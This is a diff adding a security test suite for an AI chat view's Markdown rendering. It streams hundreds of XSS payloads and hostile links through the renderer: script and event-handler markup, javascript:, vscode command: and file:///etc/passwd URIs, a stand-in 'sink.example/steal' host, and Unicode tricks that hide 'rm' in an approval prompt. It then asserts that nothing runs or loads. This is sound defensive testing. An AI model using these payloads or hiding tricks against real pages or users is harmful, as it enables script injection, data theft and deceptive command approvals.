@@ -1,0 +1,250 @@
+import { expect, test } from "vitest";
+import type { ChatPage } from "./chatPage.ts";
+import { answered, done, openChat, turnStart } from "./chatPage.ts";
+
+let chat: ChatPage;
+
+const sink = "https://sink.example/steal?c=1";
+
+/** Markup that runs code or loads something where a page lets it. */
+const markup = [
+	"<script>pwned()</script>",
+	`<script src="${sink}"></script>`,
+	"<img src=x onerror=pwned()>",
+	`<img src="${sink}" srcset="${sink} 2x">`,
+	"<svg onload=pwned()>",
+	"<svg><script>pwned()</script></svg>",
+	"<svg><animate onbegin=pwned() attributeName=x dur=1s>",
+	`<svg><image href="${sink}"/><use href="data:image/svg+xml,<svg id='x' onload='pwned()'/>#x"/></svg>`,
+	'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
+	"<body onload=pwned()>",
+	"<details open ontoggle=pwned()>x</details>",
+	"<iframe src=javascript:pwned()></iframe>",
+	"<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
+	`<object data="${sink}"></object><embed src="${sink}">`,
+	`<link rel=stylesheet href="${sink}"><link rel=preload as=image href="${sink}">`,
+	`<style>@import url(${sink}); body{background:url(${sink})}</style>`,
+	`<div style="background:url(${sink})">x</div>`,
+	`<base href="${sink}">`,
+	`<meta http-equiv=refresh content="0;url=${sink}">`,
+	`<form action="${sink}"><button autofocus onfocus=pwned()>x</button></form>`,
+	"<input autofocus onfocus=pwned()>",
+	`<video poster="${sink}" src="${sink}" onerror=pwned()><source src="${sink}"></video>`,
+	`<audio src="${sink}" onerror=pwned()>`,
+	"<a href=javascript:pwned()>x</a>",
+	"<marquee onstart=pwned()>x</marquee>",
+	"<template><img src=x onerror=pwned()></template>",
+	'<noscript><p title="</noscript><img src=x onerror=pwned()>">',
+	"<xmp><img src=x onerror=pwned()></xmp>",
+	"<!--><img src=x onerror=pwned()>-->",
+	"<![CDATA[<img src=x onerror=pwned()>]]>",
+	"<?xml version='1.0'?><x onerror=pwned()/>",
+	"<textarea><img src=x onerror=pwned()></textarea>",
+	"<title><img src=x onerror=pwned()></title>",
+	"<p/onclick=pwned()>x",
+	'"><img src=x onerror=pwned()>',
+	"'><svg/onload=pwned()>",
+	"&lt;img src=x onerror=pwned()&gt;",
+	"&#60;script&#62;pwned()&#60;/script&#62;",
+	"\u0000<img src=x onerror=pwned()>",
+	"<\u0000script>pwned()</script>",
+	"{{constructor.constructor('pwned()')()}}",
+	"${pwned()}",
+];
+
+const addresses = [
+	"javascript:pwned()",
+	"JaVaScRiPt:pwned()",
+	"java&#x0A;script:pwned()",
+	"java&Tab;script:pwned()",
+	"&#106;avascript:pwned()",
+	"javascript&colon;pwned()",
+	"<javascript:pwned()>",
+	" javascript:pwned()",
+	"\u0001javascript:pwned()",
+	"data:text/html,<script>pwned()</script>",
+	"data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
+	"vbscript:pwned()",
+	"blob:https://outcrop.test/x",
+	"command:workbench.action.terminal.new",
+	"command:%77orkbench.action.quit",
+	"vscode:extension/evil",
+	"vscode-insiders://x/y",
+	"file:///etc/passwd",
+	"//sink.example/x.png",
+	"\\\\sink.example\\x.png",
+	"ftp://sink.example/x",
+	'x" onmouseover="pwned()',
+	"x' onerror='pwned()",
+	'https://sink.example/"onmouseover=pwned()',
+];
+
+const wrappings: readonly ((text: string) => string)[] = [
+	(text) => text,
+	(text) => `**${text}**`,
+	(text) => `# ${text}`,
+	(text) => `- ${text}`,
+	(text) => `> ${text}`,
+	(text) => `| ${text.replaceAll("|", "\\|")} |\n|---|\n| ${text.replaceAll("|", "\\|")} |`,
+	(text) => `\`${text}\``,
+	(text) => `\`\`\`html\n${text}\n\`\`\``,
+	(text) => `\`\`\`${text}\ncode\n\`\`\``,
+];
+
+const linkings: readonly ((address: string) => string)[] = [
+	(address) => `[x](${address})`,
+	(address) => `[x](<${address}> "title")`,
+	(address) => `![x](${address})`,
+	(address) => `![x][r]\n\n[r]: ${address}`,
+	(address) => `<${address}>`,
+	(address) => `[![x](${address})](${address})`,
+	(address) => `\`${address}\``,
+];
+
+const vectors = [
+	...markup.flatMap((text) => wrappings.map((wrap) => wrap(text))),
+	...addresses.flatMap((address) => linkings.map((link) => link(address))),
+];
+
+/** Presses everything that could be pressed, and reports what only markup that was taken for HTML could have made. */
+async function provoke(): Promise<string[]> {
+	return chat.page.evaluate(() => {
+		const events = ["click", "mouseover", "focus", "pointerenter", "error", "load"];
+		for (const element of document.querySelectorAll(".answer .markdown *"))
+			for (const name of events) element.dispatchEvent(new Event(name, { bubbles: true }));
+		const alien =
+			"script, img, iframe, object, embed, link, style, form, input, video, audio, base, meta, template, [style], [href], [src], [srcdoc]";
+		const found = [...document.querySelectorAll(`.log :is(${alien})`)].map((element) => element.outerHTML);
+		const handlers = [...document.querySelectorAll(".log *")].flatMap((element) =>
+			element.getAttributeNames().filter((name) => name.startsWith("on")),
+		);
+		return [...found, ...handlers];
+	});
+}
+
+/** Returns a way to ask whether any vector ran since. */
+async function watchForCode(): Promise<() => Promise<boolean>> {
+	await chat.page.evaluate(() => Object.assign(window, { ran: false, pwned: () => Object.assign(window, { ran: true }) }));
+	return () => chat.page.evaluate(() => (window as unknown as { ran: boolean }).ran);
+}
+
+test("there are more than five hundred vectors", () => {
+	expect(vectors.length).toBeGreaterThan(500);
+});
+
+test("nothing that a model writes runs or loads while it streams in pieces", async () => {
+	chat = await openChat();
+	const ran = await watchForCode();
+	for (let start = 0; start < vectors.length; start += 60) {
+		const text = vectors.slice(start, start + 60).join("\n\n");
+		const pieces = text.match(/[\s\S]{1,197}/gu) ?? [];
+		await chat.events(turnStart("Go", `t${start}`));
+		await chat.say(...pieces.map((piece) => ({ kind: "events", events: [{ kind: "text-delta", text: piece }] }) as const));
+		await chat.events(done);
+		expect(await provoke()).toEqual([]);
+	}
+	expect(await ran()).toBe(false);
+	expect(chat.requests).toEqual([]);
+	expect(chat.errors).toEqual([]);
+});
+
+test("nothing in a stored chat runs or loads when it is opened again", async () => {
+	chat = await openChat();
+	const ran = await watchForCode();
+	const { turns } = answered(vectors.join("\n\n"), markup.join("\n"));
+	const events = [
+		{ kind: "tool-start", toolUseId: "x", name: "run", title: markup.join(" ") },
+		{ kind: "notice", text: markup.join(" ") },
+	] as const;
+	await chat.say({ kind: "events", events: [turnStart(markup[0] ?? ""), ...events, done] });
+	expect(await provoke()).toEqual([]);
+	await chat.say({
+		kind: "snapshot",
+		transcript: { turns },
+		state: {
+			choices: {
+				folder: "<img src=x>",
+				profile: "<b>",
+				region: "",
+				model: "<i>",
+				modelLabel: "<svg onload=pwned()>",
+				guardrail: "",
+				mode: "ask",
+			},
+			running: false,
+			attachments: [],
+			queue: [{ id: "q", text: "<img src=x onerror=pwned()>" }],
+			trusted: true,
+		},
+		draft: "<img src=x onerror=pwned()>",
+	});
+	expect(await provoke()).toEqual([]);
+	expect(await ran()).toBe(false);
+	expect(chat.requests).toEqual([]);
+	expect(chat.errors).toEqual([]);
+});
+
+test("the policy of this page really stops what the view never does", async () => {
+	chat = await openChat();
+	const refused = await chat.page.evaluate(() => {
+		try {
+			document.body.innerHTML = "<img src=x>";
+			return false;
+		} catch {
+			return true;
+		}
+	});
+	expect(refused).toBe(true);
+});
+
+test("clicking the links of a hostile answer asks the host for web pages only", async () => {
+	chat = await openChat({ transcript: answered(addresses.flatMap((address) => linkings.map((link) => link(address))).join("\n\n")) });
+	const links = await chat.page.locator(".markdown").getByRole("link").all();
+	expect(links.length).toBeGreaterThan(0);
+	for (const link of links) await link.dispatchEvent("click");
+	for (const post of chat.posts()) {
+		if (post.kind === "open-link") expect(post.href).toMatch(/^https:\/\/sink\.example\//);
+		else expect(["ready", "warm-up"]).toContain(post.kind);
+	}
+});
+
+test("an image is its words and a link, never a request", async () => {
+	chat = await openChat({ transcript: answered("![a chart](https://i.example/x.png)") });
+	await chat.page.getByRole("link", { name: "https://i.example/x.png" }).click();
+	expect(chat.posts()).toContainEqual({ kind: "open-link", href: "https://i.example/x.png" });
+	expect(await chat.page.locator(".markdown").textContent()).toContain("a chart");
+	expect(chat.requests).toEqual([]);
+});
+
+test("links and citations go to the host, with the keyboard too", async () => {
+	chat = await openChat({ transcript: answered("[docs](https://a.b/c), `src/a.ts:3-10`, [x](src/b.ts#L4), [dead](command:x)") });
+	await chat.page.getByRole("link", { name: "docs" }).click();
+	expect(await chat.page.getByRole("link", { name: "docs" }).getAttribute("title")).toBe("https://a.b/c");
+	await chat.page.getByRole("link", { name: "src/a.ts:3-10" }).press("Enter");
+	await chat.page.getByRole("link", { name: "x", exact: true }).click();
+	expect(await chat.page.getByRole("link", { name: "dead" }).count()).toBe(0);
+	expect(chat.posts().slice(1)).toEqual([
+		{ kind: "open-link", href: "https://a.b/c" },
+		{ kind: "open-file", path: "src/a.ts", first: 3, last: 10 },
+		{ kind: "open-file", path: "src/b.ts", first: 4 },
+	]);
+});
+
+test("what is hidden in a command to approve becomes visible", async () => {
+	chat = await openChat();
+	await chat.events(
+		turnStart("Go"),
+		{ kind: "tool-start", toolUseId: "1", name: "run", title: "Run ls\u202E #\u200B" },
+		{
+			kind: "approval-request",
+			toolUseId: "1",
+			approvalId: "a",
+			reason: "rm\u0008\u0008ls",
+			choices: ["once", "deny"],
+			edit: { editId: "e", path: "a\u2066.ts", added: 1, removed: 0, diff: [{ kind: "added", text: "if (a\u202E) {}" }] },
+		},
+	);
+	const step = chat.page.getByRole("group", { name: "Run ls\\u{202E} #\\u{200B}: waiting for approval" });
+	expect(await step.innerText()).toContain("rm\\u{8}\\u{8}ls");
+	expect(await step.innerText()).toContain("if (a\\u{202E}) {}");
+});
